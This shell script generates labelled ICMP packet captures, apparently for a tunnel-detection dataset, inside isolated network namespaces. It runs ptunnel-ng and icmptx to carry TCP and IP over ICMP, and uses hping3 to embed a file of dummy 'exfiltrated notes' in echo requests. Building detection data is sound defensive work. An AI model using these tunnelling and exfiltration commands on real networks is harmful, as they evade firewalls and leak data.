#!/bin/sh
# Writes labelled/real_iputils.cap, real_ptunnel_answering.cap, real_ptunnel_silent.cap,
# real_icmptx.cap and real_hping3.cap: the labelled set's captures of real tools. Run as root with ptunnel-ng,
# icmptx, hping3 installed. Two network namespaces joined by a veth pair
# (10.34.0.1/24 and fd34::1/64 facing 10.34.0.2/24 and fd34::2/64), captured on the far end;
# nothing leaves them, and they go away on exit.
set -eu

cd "$(dirname "$0")/labelled"
here=$PWD
A=s34a
B=s34b
work=$(mktemp -d)
pids=
cleanup() {
    for p in $pids; do kill "$p" 2>/dev/null || true; done
    for p in $pids; do wait "$p" 2>/dev/null || true; done
    ip netns del "$A" 2>/dev/null || true
    ip netns del "$B" 2>/dev/null || true
    rm -rf "$work"
}
trap cleanup EXIT
trap 'exit 1' INT TERM

# `tcp.py serve HOST PORT 'LINE|LINE'`: a TCP service that writes the lines back, a second
# apart, reading whatever comes; `tcp.py send HOST PORT FILE`: sends the file and reads for 3 s.
cat >"$work/tcp.py" <<'PY'
import socket, sys, time
verb, host, port, what = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
if verb == "serve":
    c, _ = socket.create_server((host, port)).accept()
    c.settimeout(0.5)
    for line in what.split("|"):
        c.sendall(line.encode() + b"\n")
        try:
            while c.recv(65536):
                pass
        except OSError:
            pass
        time.sleep(1)
else:
    c = socket.create_connection((host, port))
    c.sendall(open(what, "rb").read())
    c.settimeout(3)
    try:
        while c.recv(65536):
            pass
    except OSError:
        pass
c.close()
PY
tcp() { ns=$1; shift; ip netns exec "$ns" python3 "$work/tcp.py" "$@"; }

stop() {
    kill -"$2" "$1" 2>/dev/null || true
    wait "$1" 2>/dev/null || true
}

ip netns add "$A"
ip netns add "$B"
ip link add s34a netns "$A" address 02:00:00:00:34:01 type veth \
    peer name s34b netns "$B" address 02:00:00:00:34:02
side() { # namespace, device, own host number, peer's MAC, peer's host number
    ip -n "$1" link set lo up
    ip -n "$1" addr add "10.34.0.$3/24" dev "$2"
    ip -n "$1" addr add "fd34::$3/64" dev "$2" nodad
    ip -n "$1" neigh add "10.34.0.$5" lladdr "$4" dev "$2" nud permanent
    ip -n "$1" neigh add "fd34::$5" lladdr "$4" dev "$2" nud permanent
    ip netns exec "$1" sysctl -q "net.ipv6.conf.$2.router_solicitations=0"
    ip -n "$1" link set "$2" up
}
side "$A" s34a 1 02:00:00:00:34:02 2
side "$B" s34b 2 02:00:00:00:34:01 1
sleep 2

# Starts capturing into $1 on the far end.
capture() {
    ip netns exec "$B" tcpdump -i s34b -s 0 -U -w "$here/$1" 'icmp or icmp6' 2>/dev/null &
    cap=$!
    pids="$pids $cap"
    sleep 1
}
done_capture() {
    sleep 1
    stop "$cap" INT
    echo "$1: $(capinfos -c -M "$here/$1" | sed -n 's/^Number of packets: *//p') records"
}

# Ordinary pings: 56 bytes, 4000 bytes (in fragments), and IPv6.
capture real_iputils.cap
ip netns exec "$A" ping -q -c 3 -i 0.2 10.34.0.2
ip netns exec "$A" ping -q -c 2 -i 0.2 -s 4000 10.34.0.2
ip netns exec "$A" ping -q -6 -c 3 -i 0.2 fd34::2
done_capture real_iputils.cap

# ptunnel-ng carrying a TCP connection to a service on the proxy's loopback: 3,000 random bytes
# one way, a few lines of text back. First with B's kernel answering every echo request too (its
# replies then outnumber the requests), then with it silent.
head -c 3000 /dev/urandom >"$work/random"
ptunnel() { # capture name
    capture "$1"
    tcp "$B" serve 127.0.0.1 7034 "HTTP/1.0 200 OK|the far side says hello" &
    pids="$pids $!"
    ip netns exec "$B" ptunnel-ng -v -1 -o/dev/null &
    proxy=$!
    pids="$pids $proxy"
    ip netns exec "$A" ptunnel-ng -v -1 -o/dev/null -p 10.34.0.2 -l 8034 -r127.0.0.1 -R7034 &
    client=$!
    pids="$pids $client"
    sleep 1
    tcp "$A" send 127.0.0.1 8034 "$work/random" || true
    sleep 1
    stop "$client" TERM
    stop "$proxy" TERM
    done_capture "$1"
}
ptunnel real_ptunnel_answering.cap
ip netns exec "$B" sysctl -q net.ipv4.icmp_echo_ignore_all=1
ptunnel real_ptunnel_silent.cap

# icmptx: IP between two tun devices, 10.0.34.2 in A to 10.0.34.1 in B, a line of TCP each way.
capture real_icmptx.cap
ip netns exec "$B" icmptx -s 10.34.0.2 &
server=$!
pids="$pids $server"
ip netns exec "$A" icmptx -c 10.34.0.2 &
client=$!
pids="$pids $client"
sleep 1
for ns in "$A" "$B"; do ip netns exec "$ns" sysctl -q net.ipv6.conf.tun0.disable_ipv6=1; done
ip -n "$B" addr add 10.0.34.1/24 dev tun0
ip -n "$B" link set tun0 up
ip -n "$A" addr add 10.0.34.2/24 dev tun0
ip -n "$A" link set tun0 up
sleep 1
tcp "$B" serve 10.0.34.1 7035 "and one back" &
pids="$pids $!"
sleep 0.5
printf 'a line across the tunnel\n' >"$work/line"
tcp "$A" send 10.0.34.1 7035 "$work/line" || true
stop "$client" TERM
stop "$server" TERM
done_capture real_icmptx.cap

# hping3 carrying a text file in echo requests of 16, 120 and 200 bytes; B's kernel answers them.
ip netns exec "$B" sysctl -q net.ipv4.icmp_echo_ignore_all=0
seq 1 400 | sed 's/^/line of the exfiltrated notes, number /' >"$work/notes.txt"
capture real_hping3.cap
for size in 16 120 200; do
    ip netns exec "$A" hping3 -q --icmp -c 4 -i u200000 -d "$size" -E "$work/notes.txt" \
        10.34.0.2 2>/dev/null || true
done
done_capture real_hping3.cap
